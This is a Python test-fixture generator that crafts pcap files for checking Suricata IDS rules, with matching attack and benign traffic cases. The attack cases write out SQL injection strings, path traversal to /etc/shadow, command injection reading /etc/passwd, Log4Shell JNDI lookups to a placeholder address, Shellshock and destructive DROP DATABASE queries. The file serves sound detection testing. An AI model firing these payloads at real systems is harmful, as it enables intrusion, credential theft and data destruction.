#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Crafted pcaps for the bundled Suricata rules (deploy/suricata/peerpipe.rules).

Standard library only (no scapy). Every case is one complete TCP
connection (handshake, payload in both directions with ACKs, FIN close)
from its own client port, so an EVE alert maps back to its case through
flow.src_port, the way the gateway maps alerts to streams.

  make_pcap.py attack OUT.pcap     one flow per attack case
  make_pcap.py benign OUT.pcap     normal SQL and HTTP: must raise nothing
  make_pcap.py list                the cases, their client ports and sids

check_rules.py runs Suricata over both and checks every expectation.
The output is deterministic (fixed addresses, sequence numbers and times).
"""

import ipaddress
import struct
import sys

# 2025-01-01T00:00:00Z; each flow starts one second after the previous one.
BASE_TIME = 1735689600
MSS = 1400

CLIENT4, SERVER4 = "10.0.0.2", "10.0.1.10"
CLIENT6, SERVER6 = "fd00::2", "fd00:1::10"

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def _csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Pcap:
    """A classic pcap (microsecond times, Ethernet link type)."""

    def __init__(self):
        self.out = bytearray(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))

    def packet(self, t_us, frame):
        self.out += struct.pack("<IIII", t_us // 1000000, t_us % 1000000, len(frame), len(frame))
        self.out += frame

    def save(self, path):
        with open(path, "wb") as f:
            f.write(self.out)


def _ip_tcp(src, dst, sport, dport, seq, ack, flags, payload, ip_id):
    a, b = ipaddress.ip_address(src), ipaddress.ip_address(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      5 << 4, flags, 65535, 0, 0) + payload
    if a.version == 4:
        pseudo = a.packed + b.packed + struct.pack("!BBH", 0, 6, len(tcp))
    else:
        pseudo = a.packed + b.packed + struct.pack("!IxxxB", len(tcp), 6)
    c = _csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    if a.version == 4:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id & 0xFFFF, 0x4000,
                         64, 6, 0, a.packed, b.packed)
        ip = ip[:10] + struct.pack("!H", _csum(ip)) + ip[12:]
        ethertype = 0x0800
    else:
        ip = struct.pack("!IHBB16s16s", 0x60000000, len(tcp), 6, 64, a.packed, b.packed)
        ethertype = 0x86DD
    eth = bytes.fromhex("020000000002") + bytes.fromhex("020000000001") + struct.pack("!H", ethertype)
    return eth + ip + tcp


def tcp_flow(pcap, t0_us, client, server, cport, sport, exchange):
    """exchange: list of ("c"|"s", bytes), in order. Each data segment
    is acknowledged by the other side; the client closes."""
    t = [t0_us]
    seq = {"c": 1000000, "s": 2000000}
    ends = {"c": (client, cport, server, sport), "s": (server, sport, client, cport)}
    ip_id = [cport]

    def send(side, flags, payload=b""):
        other = "s" if side == "c" else "c"
        src, sp, dst, dp = ends[side]
        ack = seq[other] if flags & ACK else 0
        pcap.packet(t[0], _ip_tcp(src, dst, sp, dp, seq[side], ack, flags, payload, ip_id[0]))
        ip_id[0] += 1
        t[0] += 1000  # 1 ms between packets
        seq[side] += len(payload) + (1 if flags & (SYN | FIN) else 0)

    send("c", SYN)
    send("s", SYN | ACK)
    send("c", ACK)
    for side, data in exchange:
        other = "s" if side == "c" else "c"
        for i in range(0, len(data), MSS):
            send(side, PSH | ACK, data[i:i + MSS])
        send(other, ACK)
    send("c", FIN | ACK)
    send("s", FIN | ACK)
    send("c", ACK)


# --- protocol helpers ----------------------------------------------------

def http_get(uri, headers=(), method="GET", body=b""):
    lines = ["%s %s HTTP/1.1" % (method, uri), "Host: app.internal",
             "User-Agent: curl/7.88.1", "Accept: */*"]
    lines += list(headers)
    if body:
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def http_post(uri, body, ctype="application/x-www-form-urlencoded", headers=()):
    return http_get(uri, ["Content-Type: " + ctype] + list(headers), "POST", body.encode())


HTTP_OK = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n"
           b"<p>hello</p>\n")


def http(req, resp=HTTP_OK):
    return [("c", req), ("s", resp)]


def pg_startup(user="app", db="appdb"):
    body = struct.pack("!I", 196608) + b"user\0" + user.encode() + b"\0database\0" + \
        db.encode() + b"\0\0"
    return struct.pack("!I", len(body) + 4) + body


PG_READY = (b"R" + struct.pack("!II", 8, 0) + b"Z" + struct.pack("!I", 5) + b"I")


def pg_query(sql):
    body = sql.encode() + b"\0"
    return b"Q" + struct.pack("!I", len(body) + 4) + body


def pg(*queries):
    ex = [("c", pg_startup()), ("s", PG_READY)]
    for q in queries:
        ex += [("c", pg_query(q)), ("s", b"C" + struct.pack("!I", 9) + b"DONE\0" + b"Z" +
                                    struct.pack("!I", 5) + b"I")]
    return ex


def _mysql_packet(seq, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


MYSQL_GREETING = _mysql_packet(0, b"\x0a8.0.36\0" + struct.pack("<I", 11) + b"abcdefgh\0" +
                               struct.pack("<HBHH", 0xFFFF, 0x21, 0x0002, 0xDFFF) + b"\x15" +
                               b"\0" * 10 + b"ijklmnopqrst\0" + b"caching_sha2_password\0")
MYSQL_OK = _mysql_packet(1, b"\x00\x00\x00\x02\x00\x00\x00")


def mysql(*queries):
    login = _mysql_packet(1, struct.pack("<IIB", 0x000FA68D, 16777216, 0x21) + b"\0" * 23 +
                          b"app\0" + b"\0" + b"appdb\0")
    ex = [("s", MYSQL_GREETING), ("c", login), ("s", _mysql_packet(2, b"\x00\x00\x00\x02\x00\x00\x00"))]
    for q in queries:
        ex += [("c", _mysql_packet(0, b"\x03" + q.encode())), ("s", MYSQL_OK)]
    return ex


def raw(*pairs):
    return list(pairs)


# --- the cases -----------------------------------------------------------
# (name, server port, exchange, expected sids, ipv6)

ATTACK = [
    # sid 2100498: the harmless test rule; the *server* answers uid=0(root).
    ("gpl_id_root", 7000, raw(("c", b"id\n"), ("s", b"uid=0(root) gid=0(root) groups=0(root)\n")),
     [2100498], False),
    ("gpl_id_root_v6", 7000, raw(("c", b"id\n"), ("s", b"uid=0(root) gid=0(root) groups=0(root)\n")),
     [2100498], True),
    # SQL injection over HTTP
    ("sqli_union_uri", 80,
     http(http_get("/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--")),
     [9100001], False),
    ("sqli_union_all_plus_uri", 80,
     http(http_get("/items?id=-1+UNION+ALL+SELECT+1,2,version()--")), [9100001], False),
    ("sqli_tautology_uri", 80,
     http(http_get("/login?user=admin%27%20OR%201=1--&pass=x")), [9100002], False),
    ("sqli_tautology_quoted_uri", 80,
     http(http_get("/login?user=x%27%20or%20%27a%27=%27a&pass=x")), [9100002], False),
    ("sqli_stacked_drop_uri", 80,
     http(http_get("/items?id=1;%20DROP%20TABLE%20users--")), [9100003], False),
    ("sqli_xp_cmdshell_uri", 80,
     http(http_get("/items?id=1%27;EXEC%20master..xp_cmdshell%20%27whoami%27--")), [9100004], False),
    ("sqli_sleep_uri", 80,
     http(http_get("/items?id=1%20AND%20SLEEP(5)")), [9100005], False),
    ("sqli_benchmark_uri", 80,
     http(http_get("/items?id=1%20AND%20BENCHMARK(5000000,MD5(1))")), [9100005], False),
    ("sqli_pg_sleep_uri", 80,
     http(http_get("/items?id=1%3BSELECT%20pg_sleep(10)")), [9100005], False),
    ("sqli_waitfor_uri", 80,
     http(http_get("/items?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--")), [9100008], False),
    ("sqli_union_body", 80,
     http(http_post("/search", "q=x%27+UNION+SELECT+username,password+FROM+users--")),
     [9100006], False),
    ("sqli_tautology_body", 80,
     http(http_post("/login", "user=admin%27+OR+%271%27%3D%271&pass=x")), [9100007], False),
    # Destructive SQL in the database wire protocols
    ("pg_drop_database", 5432, pg("DROP DATABASE production;"), [9100010], False),
    ("mysql_drop_database", 3306, mysql("drop database production"), [9100010], False),
    ("pg_truncate", 5432, pg("TRUNCATE TABLE accounts CASCADE;"), [9100011], False),
    ("mysql_truncate", 3306, mysql("TRUNCATE accounts"), [9100011], False),
    # Web exploits
    ("path_traversal", 80, http(http_get("/static/../../../../etc/shadow")), [9100020], False),
    ("path_traversal_encoded", 80,
     http(http_get("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow")), [9100021], False),
    ("path_traversal_dotdot_enc_slash", 80,
     http(http_get("/download?file=..%2f..%2fconfig.php")), [9100021], False),
    ("cmd_injection_semicolon", 80,
     http(http_get("/ping?host=127.0.0.1;cat%20/etc/passwd")), [9100022], False),
    ("cmd_injection_subshell", 80,
     http(http_get("/ping?host=$(id)")), [9100023], False),
    ("cmd_injection_backticks", 80,
     http(http_get("/ping?host=%60id%60")), [9100024], False),
    ("jndi_header", 80,
     http(http_get("/", ["X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}"])), [9100030], False),
    ("jndi_uri_encoded", 80,
     http(http_get("/search?q=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D")), [9100031], False),
    ("jndi_obfuscated", 80,
     http(http_get("/", ["User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}"])),
     [9100032], False),
    ("shellshock", 80,
     http(http_get("/cgi-bin/status", ["Referer: () { :;}; /bin/bash -c 'id'"])),
     [9100040], False),
    # Protocol tunnelling inside an allowed service (T1572)
    ("ssh_on_http_port", 80,
     raw(("c", b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
         ("s", b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")),
     [9100050], False),
    ("ssh_on_sql_port", 5432,
     raw(("c", b"SSH-2.0-libssh_0.10.4\r\n")), [9100050], False),
    ("ssh_199_on_http_port", 8080,
     raw(("c", b"SSH-1.99-PuTTY_Release_0.78\r\n")), [9100050], False),
    ("http_connect", 80,
     http(b"CONNECT db.internal:5432 HTTP/1.1\r\nHost: db.internal:5432\r\n\r\n",
          b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n"), [9100051], False),
    ("doh_get", 80,
     http(http_get("/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB",
                   ["Accept: application/dns-message"])), [9100052], False),
    ("doh_json", 80,
     http(http_get("/resolve?name=example.com&type=A", ["Accept: application/dns-json"])),
     [9100052], False),
]

BENIGN = [
    ("http_index", 80, http(http_get("/index.html")), [], False),
    ("http_query", 80, http(http_get("/items?id=42&sort=name&order=asc&page=2")), [], False),
    ("http_search_words", 80,
     http(http_get("/search?q=european+union+select+committee&lang=en")), [], False),
    ("http_jsessionid", 80, http(http_get("/cart;jsessionid=A1B2C3;id=7?item=5&id=9")), [], False),
    ("http_odata", 80, http(http_get("/api/users?$top=10&$filter=name%20eq%20%27bob%27")), [], False),
    ("http_parens", 80, http(http_get("/wiki/Bash_(Unix_shell)")), [], False),
    ("http_post_login", 80, http(http_post("/login", "user=o%27brien&pass=s3cret%21")), [], False),
    ("http_post_json", 80,
     http(http_post("/api/notes", '{"text":"a = b or c = d; call sleep later"}',
                    "application/json")), [], False),
    ("http_post_js", 80,
     http(http_post("/upload", "var f = function() { a(); }; f();", "application/javascript")),
     [], False),
    ("http_dot_path", 80, http(http_get("/docs/guide.v2.html?ref=a.b.c")), [], False),
    ("http_accept_json", 80, http(http_get("/api/dns/records", ["Accept: application/json"])),
     [], False),
    ("http_semicolons", 80, http(http_get("/search?q=tom;jerry&sort=desc;page=2")), [], False),
    ("http_dotdot_name", 80, http(http_get("/files/report..final.pdf?v=1..3")), [], False),
    ("http_template_body", 80,
     http(http_post("/api/mail", '{"tpl":"Hello ${user.name}, see $HOME"}', "application/json")),
     [], False),
    ("http_v6", 80, http(http_get("/health")), [], True),
    ("pg_normal", 5432,
     pg("SELECT id, name FROM users WHERE id = 1;",
        "SELECT a FROM t1 UNION SELECT a FROM t2;",
        "DELETE FROM sessions WHERE expires < now();",
        "CREATE TEMP TABLE tmp_x (id int); DROP TABLE tmp_x;",
        "SELECT pg_sleep(0.1);"), [], False),
    ("mysql_normal", 3306,
     mysql("SELECT TRUNCATE(12.345, 1)", "SELECT * FROM orders WHERE status = 'open' OR 1",
           "SELECT SLEEP(0)", "SHOW DATABASES"), [], False),
    ("ssh_on_ssh_port", 22,
     raw(("s", b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
         ("c", b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")), [], False),
    ("raw_id_user", 7000, raw(("c", b"id\n"), ("s", b"uid=1000(alice) gid=1000(alice)\n")), [],
     False),
]

CASES = {"attack": ATTACK, "benign": BENIGN}
FIRST_PORT = {"attack": 40001, "benign": 50001}


def client_port(kind, index):
    return FIRST_PORT[kind] + index


def build(kind):
    pcap = Pcap()
    for i, (name, sport, exchange, _sids, v6) in enumerate(CASES[kind]):
        c, s = (CLIENT6, SERVER6) if v6 else (CLIENT4, SERVER4)
        tcp_flow(pcap, (BASE_TIME + i) * 1000000, c, s, client_port(kind, i), sport, exchange)
    return pcap


def main(argv):
    if len(argv) == 2 and argv[1] == "list":
        for kind in ("attack", "benign"):
            for i, (name, sport, _ex, sids, v6) in enumerate(CASES[kind]):
                print("%s %d -> %-5d %-32s %s%s" % (kind, client_port(kind, i), sport, name,
                                                 ",".join(map(str, sids)) or "-",
                                                 " (IPv6)" if v6 else ""))
        return 0
    if len(argv) != 3 or argv[1] not in CASES:
        sys.stderr.write("usage: make_pcap.py attack|benign OUT.pcap | list\n")
        return 2
    build(argv[1]).save(argv[2])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
